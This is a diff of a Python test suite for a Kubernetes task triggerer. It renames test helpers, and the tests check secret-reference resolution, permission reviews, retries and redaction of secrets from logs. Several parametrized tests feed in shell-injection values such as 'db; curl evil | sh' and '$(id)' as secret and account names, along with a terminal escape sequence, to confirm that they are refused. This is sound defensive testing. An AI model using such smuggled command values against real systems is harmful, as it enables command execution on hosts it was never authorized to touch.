@@ -13,120 +13,122 @@ from torpor_wire import constants, trigger, typed_json
 from torpor_wire.secret_ref import SecretRef
 
 from tests.support.fake_api import Fault
-from tests.support.triggerer_world import NAMESPACE, World, begun, world
+from tests.support.triggerer_world import NAMESPACE, TriggererWorld, start_with_wait, triggerer_world
 
 SECRET = "hunter2-hunter2"
 REFERENCE = SecretRef("db", "password").written()
 
 
-def prepared(made: World, account: str = constants.TASK_ACCOUNT) -> None:
-    made.secret("db", password=SECRET)
-    made.readers.add((account, "db"))
+def prepared(world: TriggererWorld, account: str = constants.TASK_ACCOUNT) -> None:
+    world.secret("db", password=SECRET)
+    world.readers.add((account, "db"))
 
 
-def seen(made: World) -> str:
+def seen(world: TriggererWorld) -> str:
     """All that anybody could see: the log, what was written, and what stands."""
-    stands = [*made.fake.all(TASKRUNS), *made.fake.all(EVENTS)]
-    written = [one.body for one in made.fake.requests if one.body is not None]
-    return made.said.getvalue() + json.dumps(stands) + json.dumps(written)
+    stands = [*world.fake.all(TASKRUNS), *world.fake.all(EVENTS)]
+    written = [request.body for request in world.fake.requests if request.body is not None]
+    return world.log_output.getvalue() + json.dumps(stands) + json.dumps(written)
 
 
 async def test_a_reference_anywhere_in_the_kwargs_is_the_text_of_the_secret() -> None:
-    async with world() as made:
-        prepared(made)
-        await begun(made, "a", kwargs={"name": "a", "deep": [{"x": REFERENCE}, 1], "plain": "p"})
-        assert made.given[0]["deep"] == [{"x": SECRET}, 1]
-        assert isinstance(made.given[0]["deep"][0]["x"], Revealed)
-        assert not isinstance(made.given[0]["plain"], Revealed)
-        assert made.called("a") == ["run"]
+    async with triggerer_world() as world:
+        prepared(world)
+        await start_with_wait(world, "a", kwargs={"name": "a", "deep": [{"x": REFERENCE}, 1], "plain": "p"})
+        assert world.trigger_kwargs[0]["deep"] == [{"x": SECRET}, 1]
+        assert isinstance(world.trigger_kwargs[0]["deep"][0]["x"], Revealed)
+        assert not isinstance(world.trigger_kwargs[0]["plain"], Revealed)
+        assert world.called("a") == ["run"]
 
 
 async def test_whether_the_account_may_read_it_is_asked_each_time() -> None:
-    async with world() as made:
-        prepared(made, "reader")
+    async with triggerer_world() as world:
+        prepared(world, "reader")
         spec = {"python": "m:f", "serviceAccount": "reader"}
-        made.taskrun("a", kwargs={"name": "a", "x": REFERENCE}, spec=spec, account="reader")
-        made.taskrun("b", kwargs={"name": "b", "x": REFERENCE}, spec=spec, account="reader")
-        await made.start()
-        assert made.reviews == [("reader", "db")] * 2
-        assert made.called("a") == made.called("b") == ["run"]
+        world.taskrun("a", kwargs={"name": "a", "x": REFERENCE}, spec=spec, account="reader")
+        world.taskrun("b", kwargs={"name": "b", "x": REFERENCE}, spec=spec, account="reader")
+        await world.start()
+        assert world.reviews == [("reader", "db")] * 2
+        assert world.called("a") == world.called("b") == ["run"]
 
 
 async def test_an_account_without_the_right_fails_and_the_secret_is_not_read() -> None:
-    async with world() as made:
-        prepared(made, "another")
-        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE}, spec={"python": "m:f", "retries": {"limit": 1}})
-        await made.pass_time(5)
-        assert made.stands("a") == ("UpForRetry", "SecretForbidden")
-        message = made.status("a")["message"]
+    async with triggerer_world() as world:
+        prepared(world, "another")
+        await start_with_wait(
+            world, "a", kwargs={"name": "a", "x": REFERENCE}, spec={"python": "m:f", "retries": {"limit": 1}}
+        )
+        await world.pass_time(5)
+        assert world.state_and_reason("a") == ("UpForRetry", "SecretForbidden")
+        message = world.status("a")["message"]
         assert "ServiceAccount torpor-task may not get Secret db in namespace workflows" in message
         assert "create role read-db --verb=get --resource=secrets --resource-name=db" in message
-        assert not [one for one in made.fake.requests if "/secrets/" in one.path]
-        assert made.given == []
+        assert not [request for request in world.fake.requests if "/secrets/" in request.path]
+        assert world.trigger_kwargs == []
 
 
 async def test_a_role_created_shortly_after_the_wait_is_waited_for() -> None:
-    async with world() as made:
-        made.secret("db", password=SECRET)
-        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE})
-        made.readers.add((constants.TASK_ACCOUNT, "db"))
-        await made.pass_time(2)
-        assert made.called("a") == ["run"]
+    async with triggerer_world() as world:
+        world.secret("db", password=SECRET)
+        await start_with_wait(world, "a", kwargs={"name": "a", "x": REFERENCE})
+        world.readers.add((constants.TASK_ACCOUNT, "db"))
+        await world.pass_time(2)
+        assert world.called("a") == ["run"]
 
 
 async def test_a_repeatedly_denied_account_delays_no_other() -> None:
-    async with world() as made:
-        prepared(made, "reader")
+    async with triggerer_world() as world:
+        prepared(world, "reader")
         for number in range(100):
-            made.taskrun(f"denied{number}", kwargs={"name": f"denied{number}", "x": REFERENCE})
+            world.taskrun(f"denied{number}", kwargs={"name": f"denied{number}", "x": REFERENCE})
         spec = {"python": "m:f", "serviceAccount": "reader"}
-        made.taskrun("z", kwargs={"name": "z", "x": REFERENCE}, spec=spec, account="reader")
-        await made.start()
-        assert made.called("z") == ["run"]
+        world.taskrun("z", kwargs={"name": "z", "x": REFERENCE}, spec=spec, account="reader")
+        await world.start()
+        assert world.called("z") == ["run"]
 
 
 @pytest.mark.parametrize(
     ("path", "words"), [("/secrets/db", "components/secrets"), ("/none", "may not create SubjectAccessReviews")]
 )
 async def test_a_triggerer_without_the_right_says_which_it_lacks(path: str, words: str) -> None:
-    async with world() as made:
-        prepared(made)
+    async with triggerer_world() as world:
+        prepared(world)
         if path == "/none":
-            made.reviewing = False
+            world.reviewing = False
         else:
-            made.fake.inject(Fault(status=403, method="GET", path=path, message="no such right", times=9))
-        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE})
-        assert made.stands("a") == ("Failed", "SecretForbidden")
-        assert words in made.status("a")["message"]
+            world.fake.inject(Fault(status=403, method="GET", path=path, message="no such right", times=9))
+        await start_with_wait(world, "a", kwargs={"name": "a", "x": REFERENCE})
+        assert world.state_and_reason("a") == ("Failed", "SecretForbidden")
+        assert words in world.status("a")["message"]
 
 
 async def test_a_secret_or_a_key_that_is_missing_is_waited_for() -> None:
-    async with world() as made:
-        made.readers.add((constants.TASK_ACCOUNT, "db"))
-        made.taskrun("b", kwargs={"name": "b", "x": REFERENCE}, timeout=20)
-        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE})
-        await made.pass_time(4)
-        made.secret("db", other="x")
-        await made.pass_time(17)
-        assert made.stands("a") == ("Deferred", "Waiting")
-        assert ": Secret db has no key password" in made.status("a")["message"]
-        assert made.stands("b") == ("Failed", "DeferralTimeout")
-        assert made.status("b")["message"].endswith("last look: Secret db has no key password")
-        assert "Secret db does not exist in namespace workflows; retrying in 5 s" in made.said.getvalue()
-        made.fake.remove(SECRETS, NAMESPACE, "db")
-        prepared(made)
-        await made.pass_time(25)
-        assert made.called("a") == ["run"]
-        assert made.called("b") == []
+    async with triggerer_world() as world:
+        world.readers.add((constants.TASK_ACCOUNT, "db"))
+        world.taskrun("b", kwargs={"name": "b", "x": REFERENCE}, timeout=20)
+        await start_with_wait(world, "a", kwargs={"name": "a", "x": REFERENCE})
+        await world.pass_time(4)
+        world.secret("db", other="x")
+        await world.pass_time(17)
+        assert world.state_and_reason("a") == ("Deferred", "Waiting")
+        assert ": Secret db has no key password" in world.status("a")["message"]
+        assert world.state_and_reason("b") == ("Failed", "DeferralTimeout")
+        assert world.status("b")["message"].endswith("last look: Secret db has no key password")
+        assert "Secret db does not exist in namespace workflows; retrying in 5 s" in world.log_output.getvalue()
+        world.fake.remove(SECRETS, NAMESPACE, "db")
+        prepared(world)
+        await world.pass_time(25)
+        assert world.called("a") == ["run"]
+        assert world.called("b") == []
 
 
 async def test_a_server_that_does_not_answer_is_asked_again() -> None:
-    async with world() as made:
-        prepared(made)
-        made.fake.inject(Fault(status=503, method="GET", path="/secrets/db", times=8))
-        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE})
-        await made.pass_time(60)
-        assert made.called("a") == ["run"]
+    async with triggerer_world() as world:
+        prepared(world)
+        world.fake.inject(Fault(status=503, method="GET", path="/secrets/db", times=8))
+        await start_with_wait(world, "a", kwargs={"name": "a", "x": REFERENCE})
+        await world.pass_time(60)
+        assert world.called("a") == ["run"]
 
 
 @pytest.mark.parametrize(
@@ -140,10 +142,10 @@ async def test_a_server_that_does_not_answer_is_asked_again() -> None:
     ],
 )
 async def test_what_is_no_reference_is_refused(bad: Any) -> None:
-    async with world() as made:
-        made.readers |= {(constants.TASK_ACCOUNT, "db"), (constants.TASK_ACCOUNT, "../x")}
-        await begun(made, "a", kwargs={"name": "a", "x": bad})
-        assert made.stands("a") == ("Failed", "TriggerInvalid")
+    async with triggerer_world() as world:
+        world.readers |= {(constants.TASK_ACCOUNT, "db"), (constants.TASK_ACCOUNT, "../x")}
+        await start_with_wait(world, "a", kwargs={"name": "a", "x": bad})
+        assert world.state_and_reason("a") == ("Failed", "TriggerInvalid")
 
 
 @pytest.mark.parametrize(
@@ -155,21 +157,21 @@ async def test_what_is_no_reference_is_refused(bad: Any) -> None:
     ],
 )
 async def test_a_reference_from_data_is_refused_and_no_secret_is_read(data: Any) -> None:
-    async with world() as made:
-        prepared(made)
-        await begun(made, "a", kwargs={"name": "a", "x": data})
-        assert made.stands("a") == ("Failed", "TriggerInvalid")
-        assert "contains a secretRef that came as data" in made.status("a")["message"]
-        assert (made.reviews, made.given) == ([], [])
+    async with triggerer_world() as world:
+        prepared(world)
+        await start_with_wait(world, "a", kwargs={"name": "a", "x": data})
+        assert world.state_and_reason("a") == ("Failed", "TriggerInvalid")
+        assert "contains a secretRef that came as data" in world.status("a")["message"]
+        assert (world.reviews, world.trigger_kwargs) == ([], [])
 
 
 async def test_data_that_looks_like_a_marked_reference_is_data() -> None:
-    async with world() as made:
-        prepared(made)
+    async with triggerer_world() as world:
+        prepared(world)
         data = {"list": [REFERENCE], "__type": REFERENCE}
-        await begun(made, "a", kwargs={"name": "a", "x": typed_json.encode(data)})
-        assert made.given[0]["x"] == data
-        assert made.reviews == []
+        await start_with_wait(world, "a", kwargs={"name": "a", "x": typed_json.encode(data)})
+        assert world.trigger_kwargs[0]["x"] == data
+        assert world.reviews == []
 
 
 @pytest.mark.parametrize(
@@ -177,12 +179,12 @@ async def test_data_that_looks_like_a_marked_reference_is_data() -> None:
     [{"name": "db; curl evil | sh", "key": "k"}, {"name": "$(id)", "key": "k"}, {"name": "db", "key": "\x1b[2J"}],
 )
 async def test_a_name_that_no_secret_can_have_is_refused_before_anybody_is_asked(bad: dict[str, str]) -> None:
-    async with world() as made:
-        await begun(made, "a", kwargs={"name": "a", "x": {"__type": "secretRef", "__var": bad}})
-        assert made.stands("a") == ("Failed", "TriggerInvalid")
-        assert "of a Secret" in made.status("a")["message"]
-        assert "kubectl" not in made.status("a")["message"]
-        assert not [one for one in made.fake.requests if "/subjectaccessreviews" in one.path]
+    async with triggerer_world() as world:
+        await start_with_wait(world, "a", kwargs={"name": "a", "x": {"__type": "secretRef", "__var": bad}})
+        assert world.state_and_reason("a") == ("Failed", "TriggerInvalid")
+        assert "of a Secret" in world.status("a")["message"]
+        assert "kubectl" not in world.status("a")["message"]
+        assert not [request for request in world.fake.requests if "/subjectaccessreviews" in request.path]
 
 
 @pytest.mark.parametrize(("account", "name"), [("x; curl evil | sh", "db"), ("torpor-task", "$(id)"), ("a\nb", "db")])
@@ -191,11 +193,11 @@ def test_no_command_is_printed_with_a_name_that_a_shell_would_interpret(account:
 
 
 async def test_what_is_no_text_is_refused() -> None:
-    async with world() as made:
-        made.readers.add((constants.TASK_ACCOUNT, "db"))
-        made.fake.put(SECRETS, {"metadata": {"name": "db", "namespace": NAMESPACE}, "data": {"password": "/w=="}})
-        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE})
-        assert made.status("a")["message"] == "key password of Secret db is not text in UTF-8"
+    async with triggerer_world() as world:
+        world.readers.add((constants.TASK_ACCOUNT, "db"))
+        world.fake.put(SECRETS, {"metadata": {"name": "db", "namespace": NAMESPACE}, "data": {"password": "/w=="}})
+        await start_with_wait(world, "a", kwargs={"name": "a", "x": REFERENCE})
+        assert world.status("a")["message"] == "key password of Secret db is not text in UTF-8"
 
 
 @pytest.mark.parametrize(
@@ -209,14 +211,14 @@ async def test_what_is_no_text_is_refused() -> None:
 async def test_a_secret_is_never_shown_by_any_behaviour_of_its_trigger(
     does: str, state: str, reason: str | None
 ) -> None:
-    async with world() as made:
-        prepared(made)
-        await begun(made, "a", kwargs={"does": does, "name": "a", "x": REFERENCE})
-        await made.pass_time(2)
-        assert made.stands("a") == (state, reason)
-        assert made.given[0]["x"] == SECRET
-        assert "hunter2" not in seen(made)
-        assert "***" in seen(made)
+    async with triggerer_world() as world:
+        prepared(world)
+        await start_with_wait(world, "a", kwargs={"does": does, "name": "a", "x": REFERENCE})
+        await world.pass_time(2)
+        assert world.state_and_reason("a") == (state, reason)
+        assert world.trigger_kwargs[0]["x"] == SECRET
+        assert "hunter2" not in seen(world)
+        assert "***" in seen(world)
 
 
 @pytest.mark.parametrize(("broken", "state"), [("reveal", "Deferred"), ("admit", "Failed")])
@@ -226,49 +228,51 @@ async def test_a_bug_on_the_way_to_a_secret_ends_no_triggerer(
     def bug(*_: object) -> None:
         raise ZeroDivisionError("nobody thought of it")
 
-    async with world() as made:
-        prepared(made)
+    async with triggerer_world() as world:
+        prepared(world)
         monkeypatch.setattr(*{"reveal": (SecretReader, "read"), "admit": (validation, "admit")}[broken], bug)
-        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE})
-        assert made.status("a")["state"] == state
+        await start_with_wait(world, "a", kwargs={"name": "a", "x": REFERENCE})
+        assert world.status("a")["state"] == state
         monkeypatch.undo()
-        await made.pass_time(6)
-        assert made.called("a") == (["run"] if broken == "reveal" else [])
+        await world.pass_time(6)
+        assert world.called("a") == (["run"] if broken == "reveal" else [])
 
 
 async def test_a_wait_that_is_cancelled_while_its_secret_is_missing_ends_at_once() -> None:
-    async with world() as made:
-        made.readers.add((constants.TASK_ACCOUNT, "db"))
-        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE})
-        made.edit("a", cancel="2023-11-14T22:13:20Z")
-        made.taskrun("b", kwargs={"name": "b", "x": REFERENCE}, status={"cancel": "2023-11-14T22:13:20Z"})
-        await made.rest()
-        assert made.stands("a") == made.stands("b") == ("Cancelled", "Cancelled")
+    async with triggerer_world() as world:
+        world.readers.add((constants.TASK_ACCOUNT, "db"))
+        await start_with_wait(world, "a", kwargs={"name": "a", "x": REFERENCE})
+        world.edit("a", cancel="2023-11-14T22:13:20Z")
+        world.taskrun("b", kwargs={"name": "b", "x": REFERENCE}, status={"cancel": "2023-11-14T22:13:20Z"})
+        await world.settle()
+        assert world.state_and_reason("a") == world.state_and_reason("b") == ("Cancelled", "Cancelled")
 
 
 async def test_a_cancelled_wait_with_its_secret_there_is_killed() -> None:
-    async with world() as made:
-        prepared(made)
-        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE}, status={"cancel": "2023-11-14T22:13:20Z"})
-        assert made.called("a") == ["on_kill", "cleanup"]
+    async with triggerer_world() as world:
+        prepared(world)
+        await start_with_wait(
+            world, "a", kwargs={"name": "a", "x": REFERENCE}, status={"cancel": "2023-11-14T22:13:20Z"}
+        )
+        assert world.called("a") == ["on_kill", "cleanup"]
 
 
 async def test_a_wait_that_moves_away_while_its_secret_is_missing_asks_no_more() -> None:
-    async with world() as made:
-        made.readers.add((constants.TASK_ACCOUNT, "db"))
-        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE})
-        made.fake.remove(TASKRUNS, NAMESPACE, "a")
-        await made.rest()
-        before = len(made.reviews)
-        await made.pass_time(60)
-        assert len(made.reviews) == before
+    async with triggerer_world() as world:
+        world.readers.add((constants.TASK_ACCOUNT, "db"))
+        await start_with_wait(world, "a", kwargs={"name": "a", "x": REFERENCE})
+        world.fake.remove(TASKRUNS, NAMESPACE, "a")
+        await world.settle()
+        before = len(world.reviews)
+        await world.pass_time(60)
+        assert len(world.reviews) == before
 
 
 async def test_a_key_that_leaves_out_the_account_is_a_lie() -> None:
-    async with world() as made:
-        prepared(made)
+    async with triggerer_world() as world:
+        prepared(world)
         kwargs: dict[str, Any] = {"name": "a", "x": REFERENCE}
         key = trigger.key("odd", kwargs, namespace=NAMESPACE, pool="default", account="another")
-        await begun(made, "a", kwargs=kwargs, trigger={"key": key, "shard": trigger.shard(key)})
-        assert made.stands("a") == ("Failed", "TriggerInvalid")
-        assert made.reviews == []
+        await start_with_wait(world, "a", kwargs=kwargs, trigger={"key": key, "shard": trigger.shard(key)})
+        assert world.state_and_reason("a") == ("Failed", "TriggerInvalid")
+        assert world.reviews == []
